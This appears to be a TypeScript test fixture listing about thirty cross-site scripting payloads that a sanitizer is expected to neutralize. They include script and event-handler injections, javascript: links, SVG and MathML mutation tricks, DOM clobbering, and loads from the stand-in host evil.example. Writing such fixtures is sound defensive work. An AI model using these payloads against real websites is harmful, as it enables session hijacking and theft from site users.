/** HTML of an attacker with access to the content service. Drawn unchanged, each would run `window.ran()`. */
export const maliciousHtml: Readonly<Record<string, string>> = {
  'a script': '<script>ran()</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script within a script': '<scr<script>ran()</script>ipt>ran()</scr</script>ipt>',
  'an image with a handler': '<img src=x onerror="ran()">',
  'a handler on a harmless tag': '<p onclick="ran()" onmouseover="ran()" onfocus="ran()" tabindex="1" autofocus>x</p>',
  'a handler without quotes or spaces': '<a/onmouseover=ran()//href=x>x</a>',
  'details that open': '<details open ontoggle="ran()"><summary>x</summary></details>',
  'a javascript link': '<a href="javascript:ran()">x</a>',
  'a javascript link in disguise': '<a href=" &#1; jAvA&#x0A;scr&Tab;ipt&colon;ran()">x</a>',
  'a data link': '<a href="data:text/html,<script>opener.ran()</script>">x</a>',
  'a link that takes the click of the page': '<a href="/faqs" style="position:fixed;inset:0" target="_self">x</a>',
  'an svg with a script': '<svg><script>ran()</script></svg>',
  'an svg with a handler': '<svg onload="ran()"><animate onbegin="ran()" attributeName=x dur=1s></svg>',
  'an svg link': '<svg><a xlink:href="javascript:ran()"><text y="9">x</text></a></svg>',
  'an svg that gives back html': '<svg><foreignObject><body onload="ran()"></foreignObject></svg>',
  'mathematics that mutate':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  'a namespace that changes on the way':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>">',
  'a style': '<style>body{display:none}</style>',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  'a frame': '<iframe srcdoc="<script>parent.ran()</script>"></iframe><iframe src="javascript:parent.ran()"></iframe>',
  'an object': '<object data="javascript:ran()"></object><embed src="javascript:ran()">',
  'a form': '<form action="javascript:ran()"><input autofocus onfocus="ran()"><button>x</button></form>',
  'a base and a refresh':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:ran()">',
  'a name that hides a property':
    '<form id="implementation"><input name="attributes"></form><a id="ran" name="body">x</a>',
  'a comment that ends early': '<!--><img src=x onerror=ran()>-->',
  'text that becomes a tag': '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  'text after plaintext': '<xmp><img src=x onerror=ran()></xmp><plaintext><img src=x onerror=ran()>',
  'a template': '<template><script>ran()</script></template>',
  'tags within tags':
    '<p><strong><em><u><s><sub><sup><ol><li><a href="javascript:ran()"><b><i><img src=x onerror=ran()></i></b></a>',
};
